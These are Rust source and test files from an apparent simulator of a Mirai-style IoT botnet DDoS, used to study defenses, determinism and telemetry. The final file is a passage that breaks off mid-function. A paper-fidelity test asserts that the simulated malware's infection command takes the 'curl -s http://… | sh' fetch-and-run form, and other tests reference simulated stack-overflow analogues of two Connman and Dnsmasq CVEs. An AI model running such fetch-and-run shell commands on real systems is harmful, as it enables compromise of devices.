    pub fn install(&self, world: &mut Ddosim) -> Result<(), String> {
        let config = world.config();
        if config.honeypots != self.config().honeypots
            || config.backup_cncs != self.config().backup_cncs
        {
            return Err(format!(
                "scenario '{}' installed on a world it did not shape: build the world \
                 from ScenarioPlan::config() (honeypots {} vs {}, backup C&Cs {} vs {})",
                self.name,
                config.honeypots,
                self.config().honeypots,
                config.backup_cncs,
                self.config().backup_cncs,
            ));
        }
        // The scenario's own stream: never constructed unless a
        // randomized feature needs it.
        let mut rng = self
            .needs_rng()
            .then(|| SmallRng::seed_from_u64(config.seed ^ self.seed ^ SCENARIO_TAG));

        let (tserver_node, tserver_v4) = world.tserver();
        let (attacker_node, _) = world.attacker();
        let fabric_node = world.fabric_node();
        for defense in &self.defenses {
            match defense {
                DefenseSpec::RateLimit { at, rate_bps, burst_bytes } => {
                    world.sim_mut().schedule_forkable_call(
                        SimTime::ZERO + *at,
                        "scenario.rate_limit",
                        (tserver_node, *rate_bps, *burst_bytes),
                        deploy_rate_limit,
                    );
                }
                DefenseSpec::EgressFilter { at, port } => {
                    world.sim_mut().schedule_forkable_call(
                        SimTime::ZERO + *at,
                        "scenario.egress_filter",
                        (fabric_node, tserver_v4, *port),
                        deploy_egress_filter,
                    );
                }
                DefenseSpec::Honeypot { blocklist_at, .. } => {
                    world.sim_mut().schedule_forkable_call(
                        SimTime::ZERO + *blocklist_at,
                        "scenario.blocklist",
                        fabric_node,
                        arm_blocklist,
                    );
                }
                DefenseSpec::CncTakedown { at, .. } => {
                    world.sim_mut().schedule_forkable_call(
                        SimTime::ZERO + *at,
                        "scenario.cnc_takedown",
                        attacker_node,
                        takedown_cnc,
                    );
                }
                DefenseSpec::PatchRollout { start, wave_interval, waves, remove } => {
                    let mut fleet: Vec<(NodeId, ContainerHandle)> = world
                        .devs()
                        .iter()
                        .map(|d| (d.node, d.container.clone()))
                        .collect();
                    let rng = rng.as_mut().expect("patch rollout implies needs_rng");
                    fleet.shuffle(rng);
                    let waves = (*waves as usize).min(fleet.len().max(1));
                    let per_wave = fleet.len().div_ceil(waves);
                    for (w, wave) in fleet.chunks(per_wave.max(1)).enumerate() {
                        world.sim_mut().schedule_forkable_call(
                            SimTime::ZERO + *start + *wave_interval * w as u32,
                            "scenario.patch_wave",
                            (wave.to_vec(), remove.clone(), w as u32),
                            patch_wave,
                        );
                    }
                }
            }
        }

        if let Some(RivalSpec { count, start, interval, process_name, flood_rate_bps }) =
            &self.rivals
        {
            // The rival family runs its own C&C on its own host.
            let member = world.attach_extra_node(
                "rival-cnc",
                LinkConfig::new(100_000_000, Duration::from_millis(5))
                    .with_queue_capacity(1 << 20),
            );
            let rival_cnc = SocketAddr::new(member.addr_v4, protocols::CNC_PORT);
            world.sim_mut().install_app(member.node, Box::new(CncServer::new()));
            let mut targets: Vec<(NodeId, ContainerHandle)> = world
                .devs()
                .iter()
                .map(|d| (d.node, d.container.clone()))
                .collect();
            let rng = rng.as_mut().expect("rivals imply needs_rng");
            targets.shuffle(rng);
            for (k, target) in targets.into_iter().take(*count as usize).enumerate() {
                world.sim_mut().schedule_forkable_call(
                    SimTime::ZERO + *start + *interval * k as u32,
                    "scenario.rival",
                    (target, (rival_cnc, *flood_rate_bps, process_name.clone())),
                    install_rival,
                );
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ddosim_core::SimulationBuilder;

    fn parse(extra: &str) -> ScenarioPlan {
        ScenarioPlan::parse(&format!(
            r#"{{"schema":"ddosim.scenario/1","name":"t",
                "world":{{"devs":4,"seed":11,"sim_time_secs":40,"attack_at_secs":15}},
                "attack":{{"duration_secs":10}}{extra}}}"#
        ))
        .expect("plan parses")
    }

    /// The foundational guarantee: a scenario with no defenses and no
    /// rivals runs bit-identically to the same world built without any
    /// scenario machinery.
    #[test]
    fn empty_scenario_is_a_strict_noop() {
        let plan = parse("");
        let mut scenario_world = plan.build().expect("scenario world");
        let mut plain_world = SimulationBuilder::new()
            .devs(4)
            .seed(11)
            .sim_time(Duration::from_secs(40))
            .attack_at(Duration::from_secs(15))
            .attack(ddosim_core::AttackSpec {
                duration: Duration::from_secs(10),
                ..ddosim_core::AttackSpec::default()
            })
            .build()
            .expect("plain world");
        scenario_world.run_until(Duration::from_secs(40));
        plain_world.run_until(Duration::from_secs(40));
        let a = scenario_world.state_digests();
        let b = plain_world.state_digests();
        assert_eq!(a, b, "scenario-built world diverged from the plain builder");
    }

    /// Same plan, same seeds, two runs: digests must match layer for
    /// layer even with every defense scheduled.
    #[test]
    fn loaded_scenario_is_deterministic() {
        let extra = r#","defenses":[
            {"kind":"rate_limit","at_secs":16,"rate_bps":64000,"burst_bytes":8000},
            {"kind":"egress_filter","at_secs":20,"port":80},
            {"kind":"patch_rollout","start_secs":5,"wave_interval_secs":5,"waves":2},
            {"kind":"honeypot","count":1},
            {"kind":"cnc_takedown","at_secs":25,"backups":1}],
           "rivals":{"count":2,"start_secs":6,"interval_secs":4}"#;
        let run = || {
            let mut world = parse(extra).build().expect("world");
            world.run_until(Duration::from_secs(40));
            world.state_digests()
        };
        assert_eq!(run(), run(), "same scenario, same seed, different digests");
    }

    /// The rate limiter and egress filter must actually deploy (filter
    /// count on their nodes goes up at the scheduled times).
    #[test]
    fn defenses_deploy_on_schedule() {
        let plan = parse(
            r#","defenses":[
                {"kind":"rate_limit","at_secs":16},
                {"kind":"egress_filter","at_secs":20,"port":80}]"#,
        );
        let mut world = plan.build().expect("world");
        let (tserver_node, _) = world.tserver();
        let fabric = world.fabric_node();
        world.run_until(Duration::from_secs(10));
        assert_eq!(world.sim_mut().node_filter_count(tserver_node), 0);
        assert_eq!(world.sim_mut().node_filter_count(fabric), 0);
        world.run_until(Duration::from_secs(30));
        assert_eq!(world.sim_mut().node_filter_count(tserver_node), 1);
        assert_eq!(world.sim_mut().node_filter_count(fabric), 1);
    }

    /// A seized primary C&C orphans the bots only until the fallback
    /// chain kicks in: every bot must re-home to the backup host.
    #[test]
    fn takedown_with_backups_rehomes_the_botnet() {
        let plan = ScenarioPlan::parse(
            r#"{"schema":"ddosim.scenario/1","name":"takedown",
                "world":{"devs":4,"seed":11,"sim_time_secs":200,"attack_at_secs":30},
                "attack":{"duration_secs":10},
                "defenses":[{"kind":"cnc_takedown","at_secs":20,"backups":1}]}"#,
        )
        .expect("plan");
        let mut world = plan.build().expect("world");
        world.run_until(Duration::from_secs(200));
        assert_eq!(world.backup_cncs().len(), 1, "one backup C&C attached");
        assert_eq!(
            world.backup_connected_bots(),
            4,
            "all bots rotate to the backup after the takedown"
        );
    }

    /// Honeypots among a scanning worm's targets get probed, and every
    /// trapped source lands on the simulator-global blocklist.
    #[test]
    fn honeypots_trap_scanners_and_feed_the_blocklist() {
        let plan = ScenarioPlan::parse(
            r#"{"schema":"ddosim.scenario/1","name":"hp",
                "world":{"devs":4,"seed":11,"sim_time_secs":90,"attack_at_secs":60,
                         "recruitment":"worm:1.0:1"},
                "attack":{"duration_secs":10},
                "defenses":[{"kind":"honeypot","count":2,"blocklist_at_secs":0}]}"#,
        )
        .expect("plan");
        let mut world = plan.build().expect("world");
        world.run_until(Duration::from_secs(90));
        assert_eq!(world.honeypots().len(), 2, "two honeypot nodes attached");
        assert!(world.honeypot_hits() > 0, "scanners never probed a honeypot");
        assert!(
            world.sim_mut().blocklist_len() > 0,
            "trapped scanners never reached the blocklist"
        );
    }

    /// Worlds must be built from the plan's own config; a shape mismatch
    /// (here: no honeypot nodes) is rejected instead of silently
    /// scheduling defenses that reference missing infrastructure.
    #[test]
    fn install_rejects_mismatched_worlds() {
        let plan = parse(r#","defenses":[{"kind":"honeypot","count":2}]"#);
        let mut other = SimulationBuilder::new().devs(4).seed(11).build().expect("world");
        let err = plan.install(&mut other).expect_err("shape mismatch");
        assert!(err.contains("did not shape"), "{err}");
    }

    /// A scenario world forks cleanly mid-run with deployments pending —
    /// the whole point of forkable scheduling.
    #[test]
    fn scenario_world_forks_with_pending_deployments() {
        let plan = parse(
            r#","defenses":[{"kind":"rate_limit","at_secs":25}],
               "rivals":{"count":1,"start_secs":30}"#,
        );
        let mut world = plan.build().expect("world");
        world.run_until(Duration::from_secs(10));
        let mut fork = world.fork().expect("fork with pending scenario calls");
        fork.run_until(Duration::from_secs(40));
        world.run_until(Duration::from_secs(40));
        assert_eq!(
            world.state_digests(),
            fork.state_digests(),
            "identity fork diverged from parent"
        );
    }
}
