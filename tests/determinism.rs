//! Reproducibility: identical seeds give identical worlds and results —
//! the property that makes simulation experiments auditable.

use ddosim::{AttackSpec, SimulationBuilder};
use std::time::Duration;

fn run(seed: u64) -> ddosim::RunResult {
    SimulationBuilder::new()
        .devs(12)
        .attack(AttackSpec::udp_plain(Duration::from_secs(25)))
        .attack_at(Duration::from_secs(30))
        .sim_time(Duration::from_secs(70))
        .attack_ramp(Duration::from_secs(3))
        .seed(seed)
        .run()
        .expect("valid configuration")
}

#[test]
fn identical_seed_identical_run() {
    let a = run(99);
    let b = run(99);
    assert_eq!(a.avg_received_data_rate_kbps, b.avg_received_data_rate_kbps);
    assert_eq!(a.per_second_kbits, b.per_second_kbits);
    assert_eq!(a.infection_times_secs, b.infection_times_secs);
    assert_eq!(a.packets_sent, b.packets_sent);
    assert_eq!(a.packets_dropped, b.packets_dropped);
    assert_eq!(a.flood_packets_received, b.flood_packets_received);
}

#[test]
fn different_seeds_diverge() {
    let a = run(1);
    let b = run(2);
    // Access rates, protections, jitters all differ: byte-for-byte equality
    // across seeds would indicate the seed is ignored.
    assert_ne!(
        (a.packets_sent, a.flood_packets_received),
        (b.packets_sent, b.flood_packets_received)
    );
}

#[test]
fn churn_runs_are_also_deterministic() {
    let make = || {
        SimulationBuilder::new()
            .devs(15)
            .churn(churn::ChurnMode::Dynamic)
            .attack(AttackSpec::udp_plain(Duration::from_secs(25)))
            .attack_at(Duration::from_secs(30))
            .sim_time(Duration::from_secs(80))
            .seed(5)
            .run()
            .expect("valid configuration")
    };
    let a = make();
    let b = make();
    assert_eq!(a.churn_summary, b.churn_summary);
    assert_eq!(a.per_second_kbits, b.per_second_kbits);
}

/// The strongest form of the reproducibility claim: two runs with the same
/// seed serialize to *byte-identical* JSON (host-measured fields such as
/// memory and wall-clock time excluded). Field-wise equality can miss a
/// nondeterministic field nobody thought to compare; byte equality of the
/// full deterministic projection cannot.
#[test]
fn identical_seed_byte_identical_serialization() {
    let a = run(42);
    let b = run(42);
    let ja = a.to_deterministic_json().to_string_compact();
    let jb = b.to_deterministic_json().to_string_compact();
    assert_eq!(ja.as_bytes(), jb.as_bytes(), "star-topology runs must serialize identically");
}

#[test]
fn testbed_byte_identical_serialization() {
    let make = || {
        let base = ddosim::SimulationConfig {
            devs: 4,
            attack_at: Duration::from_secs(30),
            attack: AttackSpec::udp_plain(Duration::from_secs(20)),
            sim_time: Duration::from_secs(60),
            seed: 31,
            ..ddosim::SimulationConfig::default()
        };
        testbed::run_testbed(testbed::TestbedConfig {
            base,
            ..testbed::TestbedConfig::default()
        })
        .expect("valid configuration")
    };
    let ja = make().to_deterministic_json().to_string_compact();
    let jb = make().to_deterministic_json().to_string_compact();
    assert_eq!(ja.as_bytes(), jb.as_bytes(), "Wi-Fi testbed runs must serialize identically");
}

#[test]
fn testbed_model_is_deterministic() {
    let make = || {
        let base = ddosim::SimulationConfig {
            devs: 4,
            attack_at: Duration::from_secs(30),
            attack: AttackSpec::udp_plain(Duration::from_secs(20)),
            sim_time: Duration::from_secs(60),
            seed: 8,
            ..ddosim::SimulationConfig::default()
        };
        testbed::run_testbed(testbed::TestbedConfig {
            base,
            ..testbed::TestbedConfig::default()
        })
        .expect("valid configuration")
    };
    let a = make();
    let b = make();
    assert_eq!(a.avg_received_data_rate_kbps, b.avg_received_data_rate_kbps);
    assert_eq!(a.wifi_collisions, b.wifi_collisions);
}
