//! Telemetry reproducibility: with all collectors on, identical seeds
//! must give byte-identical recorder, capture, and metrics documents —
//! the property the `trace diff` tool depends on — and a perturbed run
//! must be pinpointed at its first diverging entry.

use ddosim::{AttackSpec, SimulationBuilder, Telemetry, TelemetryConfig};
use std::time::Duration;
use telemetry::{diff_strs, CaptureFilter};

fn full_telemetry() -> TelemetryConfig {
    TelemetryConfig {
        record: true,
        capture: true,
        // Keep the stored capture small enough that serializing and
        // re-parsing it stays cheap in debug builds; `matched`/`offered`
        // still count every event past the cap.
        capture_capacity: 20_000,
        metrics_interval: Some(Duration::from_secs(1)),
        ..TelemetryConfig::default()
    }
}

/// Runs a small scenario and returns the live telemetry handle.
fn run(seed: u64, telemetry: TelemetryConfig) -> Telemetry {
    let instance = SimulationBuilder::new()
        .devs(8)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(25))
        .sim_time(Duration::from_secs(45))
        .attack_ramp(Duration::from_secs(3))
        .seed(seed)
        .telemetry(telemetry)
        .build()
        .expect("valid configuration");
    let handle = instance.telemetry().clone();
    instance.run_to_completion();
    handle
}

fn documents(seed: u64, telemetry: TelemetryConfig) -> (String, String, String) {
    let handle = run(seed, telemetry);
    (
        handle.recorder_json().expect("recording").to_string_compact(),
        handle.capture_json().expect("capturing").to_string_compact(),
        handle.metrics_json().expect("sampling").to_string_compact(),
    )
}

#[test]
fn same_seed_runs_are_byte_identical() {
    let (rec_a, cap_a, met_a) = documents(42, full_telemetry());
    let (rec_b, cap_b, met_b) = documents(42, full_telemetry());
    assert_eq!(rec_a, rec_b, "flight recorder diverged across identical runs");
    assert_eq!(cap_a, cap_b, "packet capture diverged across identical runs");
    assert_eq!(met_a, met_b, "metrics diverged across identical runs");
    // And the diff tool agrees.
    assert_eq!(diff_strs(&rec_a, &rec_b), Ok(None));
    assert_eq!(diff_strs(&cap_a, &cap_b), Ok(None));
}

#[test]
fn perturbed_run_is_pinpointed_at_first_divergence() {
    let (rec_a, cap_a, _) = documents(42, full_telemetry());
    let (rec_b, cap_b, _) = documents(43, full_telemetry());
    let d = diff_strs(&rec_a, &rec_b)
        .expect("both parse")
        .expect("different seeds must diverge");
    // The divergence is a real pointer into both documents: re-rendering
    // the named index shows two different entries.
    assert!(d.a != d.b, "diff reported an index where both sides agree");
    assert!(d.render().contains(&format!("{}", d.index)));
    let dc = diff_strs(&cap_a, &cap_b).expect("both parse");
    assert!(dc.is_some(), "captures of different seeds must diverge");
}

#[test]
fn recorder_sees_every_layer() {
    let handle = run(42, full_telemetry());
    let doc = handle.recorder_json().expect("recording");
    let events = doc.get("events").and_then(|e| e.as_array()).expect("events array");
    let has = |cat: &str| {
        events.iter().any(|e| {
            e.get("cat").and_then(|c| c.as_str()).map(|s| s == cat).unwrap_or(false)
        })
    };
    // Core phases, firmware infection stages, malware C&C traffic, and
    // netsim container starts must all land in one chronological stream.
    for cat in ["phase", "container_start", "shell_exec", "curl_sh_stage", "cnc_register", "cnc_command", "infection", "flood"] {
        assert!(has(cat), "no {cat} event recorded; categories present: {:?}",
            events.iter().filter_map(|e| e.get("cat").and_then(|c| c.as_str()).map(str::to_owned)).collect::<std::collections::BTreeSet<_>>());
    }
    // Events are seq-ordered and time-monotone.
    let mut prev_t = 0;
    for e in events {
        let t = e.get("t").and_then(|t| t.as_u64()).expect("time");
        assert!(t >= prev_t, "recorder events out of order");
        prev_t = t;
    }
}

#[test]
fn capture_filter_narrows_the_capture() {
    let mut filtered = full_telemetry();
    filtered.capture_filter = CaptureFilter::parse("udp port 80").expect("valid filter");
    let all = run(42, full_telemetry());
    let only_flood = run(42, filtered);
    // Compare `matched` (counted past the storage cap) so the capped
    // buffer cannot mask the filter's effect.
    let matched = |h: &Telemetry| {
        h.capture_json()
            .and_then(|d| d.get("matched").and_then(|m| m.as_u64()))
            .expect("capture document")
    };
    let (all_n, flood_n) = (matched(&all), matched(&only_flood));
    assert!(flood_n > 0, "the flood never hit udp port 80");
    assert!(flood_n < all_n, "filter kept everything ({flood_n} of {all_n})");
    // Same offered count (the filter must not perturb the simulation).
    let offered = |h: &Telemetry| {
        h.capture_json().and_then(|d| d.get("offered").and_then(|o| o.as_u64())).unwrap()
    };
    assert_eq!(offered(&all), offered(&only_flood));
}

#[test]
fn metrics_track_the_botnet_and_the_attack() {
    let handle = run(42, full_telemetry());
    let doc = handle.metrics_json().expect("sampling");
    let series = doc.get("series").and_then(|s| s.as_array()).expect("series array");
    let samples = |name: &str| -> Vec<f64> {
        series
            .iter()
            .find(|s| s.get("name").and_then(|n| n.as_str()) == Some(name))
            .and_then(|s| s.get("samples").and_then(|v| v.as_array()))
            .unwrap_or_else(|| panic!("no series {name}"))
            .iter()
            .filter_map(|v| v.as_f64())
            .collect()
    };
    let bots = samples("bot_population");
    assert!(*bots.last().expect("samples") >= 1.0, "no bots by the horizon");
    assert!(bots.windows(2).all(|w| w[1] >= w[0] || w[1] >= 0.0));
    let rx = samples("tserver_rx_bytes");
    assert!(rx.iter().any(|&b| b > 0.0), "TServer never received flood bytes");
    // Gauges exist for congestion tracking.
    samples("buffered_bytes");
    samples("tserver_queue_bytes");
    samples("tx_packets");
    samples("infected_devices");
}

#[test]
fn disabled_telemetry_collects_nothing() {
    let handle = run(42, TelemetryConfig::default());
    assert!(!handle.is_enabled());
    assert_eq!(handle.recorder_json(), None);
    assert_eq!(handle.capture_json(), None);
    assert_eq!(handle.metrics_json(), None);
    assert_eq!(handle.events_recorded(), 0);
}
