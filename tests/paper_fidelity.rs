//! Paper-fidelity audit: every constant and protocol detail the paper
//! states, pinned in one place. If a refactor drifts from the paper, this
//! file fails.

use churn::{ChurnMode, FanChurnModel, DYNAMIC_CHURN_PERIOD};
use ddosim::{SimulationBuilder, SimulationConfig};
use protocols::{AttackVector, CNC_PORT, SINGLE_INSTANCE_PORT};
use std::time::Duration;

#[test]
fn eq1_coefficients_match_fan_et_al() {
    // "the authors use 0.16, 0.08, and 0.04 for φ1, φ2, and φ3" (§IV-A).
    let m = FanChurnModel::PAPER;
    assert_eq!(m.phi1, 0.16);
    assert_eq!(m.phi2, 0.08);
    assert_eq!(m.phi3, 0.04);
}

#[test]
fn dynamic_churn_reestimates_every_20_seconds() {
    // "dynamic churn re-estimates p for each device every 20 seconds".
    assert_eq!(DYNAMIC_CHURN_PERIOD, Duration::from_secs(20));
}

#[test]
fn default_simulation_horizon_is_600_seconds() {
    // "we set the NS-3 simulation time to 600 seconds" (§IV-A).
    assert_eq!(SimulationConfig::default().sim_time, Duration::from_secs(600));
}

#[test]
fn default_access_rate_is_the_iot_range() {
    // "we choose a 100-500 kbps data rate, as this is an average range for
    // such devices" (§III-D).
    let c = SimulationConfig::default();
    assert_eq!(c.access_rate_kbps, 100..=500);
}

#[test]
fn udp_plain_is_the_default_vector_with_512_byte_payloads() {
    // Mirai's UDP-PLAIN flood with its default packet length.
    let c = SimulationConfig::default();
    assert_eq!(c.attack.vector, AttackVector::UdpPlain);
    assert_eq!(c.attack.vector.default_payload_bytes(), 512);
}

#[test]
fn mirai_ports_match_the_published_source() {
    assert_eq!(CNC_PORT, 23, "bots and admin telnet share port 23");
    assert_eq!(SINGLE_INSTANCE_PORT, 48101, "single-instance guard port");
}

#[test]
fn infection_chain_matches_the_papers_payload() {
    // §III-A: execlp("sh","-c","curl -s ShellScript_URL | sh").
    let cmd = malware::stage1_command("10.0.0.2".parse().expect("ip"));
    assert!(cmd.starts_with("curl -s http://"));
    assert!(cmd.ends_with("| sh"));
}

#[test]
fn experiments_support_the_papers_scale() {
    // "we conduct experiments with up to 200 Devs" (§IV-A). A 200-Dev
    // configuration must validate (running it is the fig3 bench's job).
    assert!(SimulationBuilder::new().devs(200).build().is_ok());
}

#[test]
fn both_cve_analogue_paths_exist() {
    use tinyvm::{catalog, Arch};
    // CVE-2017-12865: Connman DNS-response stack overflow.
    let c = catalog::connman_image(Arch::X86_64);
    assert_eq!(c.name, "connmand");
    assert!(c.vuln.max_input > c.vuln.ra_offset(), "overflow reachable");
    // CVE-2017-14493: Dnsmasq DHCPv6 RELAY-FORW stack overflow.
    let d = catalog::dnsmasq_image(Arch::X86_64);
    assert_eq!(d.name, "dnsmasq");
    assert!(d.vuln.max_input > d.vuln.ra_offset(), "overflow reachable");
}

#[test]
fn dhcpv6_exploit_uses_the_multicast_group() {
    // "we send the DHCPv6 messages to a multicast IPv6 address since ...
    // there is no broadcast address in IPv6" (§IV-A) — ff02::1:2.
    let group = netsim::packet::all_dhcp_agents_v6();
    assert_eq!(group.to_string(), "ff02::1:2");
    assert!(netsim::packet::is_multicast(group));
}

#[test]
fn eq2_is_total_kbits_over_duration() {
    // D_received = (Σ_i Σ_j d_{j,i}) / n — verified against a hand
    // computation via the sink.
    let sink = ddosim::TServerSink::new(80);
    // (empty sink: zero average, no panic)
    assert_eq!(
        sink.average_received_data_rate_kbps(Duration::from_secs(0), Duration::from_secs(100)),
        0.0
    );
}

#[test]
fn churn_modes_cover_the_papers_three_levels() {
    // Fig. 2 compares no churn, static churn, and dynamic churn.
    let modes = [ChurnMode::None, ChurnMode::Static, ChurnMode::Dynamic];
    assert_eq!(modes.len(), 3);
}

#[test]
fn default_run_is_the_papers_scenario() {
    let c = SimulationConfig::default();
    assert_eq!(c.attack.duration, Duration::from_secs(100), "100 s attacks (Fig. 2)");
    assert!(matches!(
        c.binary_mix,
        ddosim::BinaryMix::Mixed { connman_fraction } if connman_fraction == 0.5
    ));
    assert_eq!(c.churn, ChurnMode::None, "churn only in the Fig. 2 series");
    assert_eq!(c.reboot_rate_per_min, 0.0, "extensions default off");
    assert_eq!(c.topology, ddosim::TopologyKind::Star);
}
