//! Property tests: the epoch-invalidated route cache is observationally
//! identical to the naive linear `route_for` scan.
//!
//! The cached fast path ([`Simulator::resolve_route`]) must return exactly
//! what the reference scan returns — same `Route`, including the
//! longest-prefix tie-break — for any table, any query order, and across
//! invalidations (route insertion/removal, node and link admin flaps).

use netsim::node::Route;
use netsim::{LinkConfig, NodeId, Simulator};
use proptest::prelude::*;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// A compact generator domain: prefixes and destinations drawn from a small
/// address pool so random tables actually match random destinations.
fn v4(a: u8, b: u8, c: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, a, b, c))
}

fn v6(x: u16, y: u16) -> IpAddr {
    IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, x, y))
}

/// Decodes one random `u64` into a route over the pool; interleaves both
/// families so family filtering is always exercised.
fn decode_route(word: u64) -> (IpAddr, u8) {
    let a = (word >> 8) as u8 & 0x3;
    let b = (word >> 16) as u8 & 0x3;
    let c = (word >> 24) as u8 & 0xFF;
    if word & 1 == 0 {
        let len = (word >> 32) as u8 % 33; // 0..=32
        (v4(a, b, c), len)
    } else {
        let len = 96 + ((word >> 32) as u8 % 33); // 96..=128: varies low bits
        (v6(u16::from(a), u16::from(c)), len)
    }
}

/// Decodes one random `u64` into a destination from the same pool.
fn decode_dst(word: u64) -> IpAddr {
    let a = (word >> 8) as u8 & 0x3;
    let b = (word >> 16) as u8 & 0x3;
    let c = (word >> 24) as u8 & 0xFF;
    if word & 1 == 0 {
        v4(a, b, c)
    } else {
        v6(u16::from(a), u16::from(c))
    }
}

/// Builds a simulator with one routed node holding `table` and a couple of
/// p2p-linked interfaces (so link-admin flaps touch real attachments).
fn build(table: &[u64]) -> (Simulator, NodeId, netsim::LinkId) {
    let mut sim = Simulator::new(7);
    let node = sim.add_node("n");
    let peer = sim.add_node("peer");
    let a = sim.add_iface(node, vec![v4(200, 0, 1)]);
    let b = sim.add_iface(peer, vec![v4(200, 0, 2)]);
    let link = sim.connect_p2p(a, b, LinkConfig::default()).expect("fresh ifaces");
    let extra = sim.add_iface(node, vec![v4(200, 0, 3)]);
    let ifaces = [a, extra];
    for (i, word) in table.iter().enumerate() {
        let (prefix, len) = decode_route(*word);
        sim.add_route(node, prefix, len, ifaces[i % ifaces.len()]);
    }
    (sim, node, link)
}

/// The oracle: the node's naive linear scan (`filter` + `max_by_key`).
fn oracle(sim: &Simulator, node: NodeId, dst: IpAddr) -> Option<Route> {
    sim.node(node).route_for(dst)
}

proptest! {
    /// Cached resolution equals the oracle for every destination, in any
    /// query order, on tables both below and above the small-table bypass
    /// threshold — and repeated queries (cache hits) stay consistent.
    #[test]
    fn cache_matches_naive_scan(
        table in collection::vec(any::<u64>(), 0..40),
        dsts in collection::vec(any::<u64>(), 1..64),
    ) {
        let (mut sim, node, _link) = build(&table);
        for word in &dsts {
            let dst = decode_dst(*word);
            let expect = oracle(&sim, node, dst);
            prop_assert_eq!(sim.resolve_route(node, dst), expect, "dst {dst}");
            // Second query hits the cache; must not change the answer.
            prop_assert_eq!(sim.resolve_route(node, dst), expect, "dst {dst} (cached)");
        }
    }

    /// Inserting a route mid-stream invalidates: post-insertion resolutions
    /// match a fresh naive scan (more-specific routes take over, equal
    /// lengths keep the naive tie-break).
    #[test]
    fn cache_sees_route_insertion(
        table in collection::vec(any::<u64>(), 0..40),
        dsts in collection::vec(any::<u64>(), 1..32),
        added in any::<u64>(),
    ) {
        let (mut sim, node, _link) = build(&table);
        // Warm the cache on every destination first.
        for word in &dsts {
            let dst = decode_dst(*word);
            let _ = sim.resolve_route(node, dst);
        }
        let (prefix, len) = decode_route(added);
        let iface = sim.node(node).ifaces()[0];
        sim.add_route(node, prefix, len, iface);
        for word in &dsts {
            let dst = decode_dst(*word);
            prop_assert_eq!(
                sim.resolve_route(node, dst),
                oracle(&sim, node, dst),
                "dst {dst} after inserting {prefix}/{len}"
            );
        }
    }

    /// Removing a route invalidates the same way.
    #[test]
    fn cache_sees_route_removal(
        table in collection::vec(any::<u64>(), 1..40),
        dsts in collection::vec(any::<u64>(), 1..32),
        victim in any::<u64>(),
    ) {
        let (mut sim, node, _link) = build(&table);
        for word in &dsts {
            let _ = sim.resolve_route(node, decode_dst(*word));
        }
        // Remove one existing route (picked by index), not a random one.
        let routes = sim.node(node).routes().to_vec();
        let r = routes[(victim as usize) % routes.len()];
        let removed = sim.remove_route(node, r.prefix, r.prefix_len);
        prop_assert!(removed >= 1);
        for word in &dsts {
            let dst = decode_dst(*word);
            prop_assert_eq!(
                sim.resolve_route(node, dst),
                oracle(&sim, node, dst),
                "dst {dst} after removing {}/{}",
                r.prefix,
                r.prefix_len
            );
        }
    }

    /// Node and link admin flaps keep cache and oracle in agreement
    /// (resolution is admin-agnostic today; the flap must at minimum not
    /// desynchronize the cache).
    #[test]
    fn cache_survives_admin_flaps(
        table in collection::vec(any::<u64>(), 0..40),
        dsts in collection::vec(any::<u64>(), 1..32),
    ) {
        let (mut sim, node, link) = build(&table);
        for word in &dsts {
            let _ = sim.resolve_route(node, decode_dst(*word));
        }
        sim.set_node_admin(node, false);
        for word in &dsts {
            let dst = decode_dst(*word);
            prop_assert_eq!(sim.resolve_route(node, dst), oracle(&sim, node, dst));
        }
        sim.set_node_admin(node, true);
        sim.set_link_admin(link, false);
        sim.set_link_admin(link, true);
        for word in &dsts {
            let dst = decode_dst(*word);
            prop_assert_eq!(sim.resolve_route(node, dst), oracle(&sim, node, dst));
        }
    }

    /// Disabling the cache at any point yields the oracle directly.
    #[test]
    fn disabled_cache_is_the_oracle(
        table in collection::vec(any::<u64>(), 0..40),
        dsts in collection::vec(any::<u64>(), 1..32),
    ) {
        let (mut sim, node, _link) = build(&table);
        sim.set_route_cache(false);
        for word in &dsts {
            let dst = decode_dst(*word);
            prop_assert_eq!(sim.resolve_route(node, dst), oracle(&sim, node, dst));
        }
    }
}
