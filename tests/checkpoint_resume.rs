//! Checkpoint/restore equivalence: checkpoint-at-T-then-resume must
//! produce a flight-recorder trace byte-identical to the uninterrupted
//! run's trace from T onward — across every fabric shape and under fault
//! injection — and the snapshot format must be byte-stable and fail
//! loudly (never panic) on corrupted input.

use ddosim::{AttackSpec, Checkpoint, SimulationBuilder, TelemetryConfig, TopologyKind};
use proptest::prelude::*;
use std::time::Duration;

/// When the snapshot is taken: mid-attack, so the checkpoint carries
/// in-flight floods, live C&C connections, and armed timers.
const CHECKPOINT_AT: Duration = Duration::from_secs(30);

fn recording() -> TelemetryConfig {
    TelemetryConfig {
        record: true,
        ..TelemetryConfig::default()
    }
}

fn base(seed: u64, topology: TopologyKind) -> SimulationBuilder {
    SimulationBuilder::new()
        .devs(8)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(25))
        .sim_time(Duration::from_secs(45))
        .attack_ramp(Duration::from_secs(3))
        .seed(seed)
        .topology(topology)
        .telemetry(recording())
}

/// Runs straight through with a checkpoint armed at `at`; returns the
/// full trace and the snapshot.
fn run_with_checkpoint(builder: SimulationBuilder, at: Duration) -> (String, Checkpoint) {
    let instance = builder.checkpoint_at(at).build().expect("valid configuration");
    let handle = instance.telemetry().clone();
    let (_, saved) = instance.try_run_to_completion().expect("run succeeds");
    let trace = handle.recorder_json().expect("recording").to_string_compact();
    (trace, saved.expect("checkpoint was armed"))
}

/// Resumes from `cp` and returns the continuation's trace (and any
/// re-saved checkpoint).
fn run_resumed(cp: Checkpoint, re_checkpoint_at: Option<Duration>) -> (String, Option<Checkpoint>) {
    let mut builder = SimulationBuilder::new().resume_from(cp);
    if let Some(at) = re_checkpoint_at {
        builder = builder.checkpoint_at(at);
    }
    let instance = builder.build().expect("checkpoint config is valid");
    let handle = instance.telemetry().clone();
    let (_, saved) = instance.try_run_to_completion().expect("resume succeeds");
    let trace = handle.recorder_json().expect("recording").to_string_compact();
    (trace, saved)
}

/// The straight-through trace restricted to events recorded at or after
/// the snapshot (what `ddosim trace suffix` computes).
fn suffix(trace: &str, cp: &Checkpoint) -> String {
    let mut doc = djson::Json::parse(trace).expect("trace parses");
    let djson::Json::Obj(members) = &mut doc else {
        panic!("trace is not an object")
    };
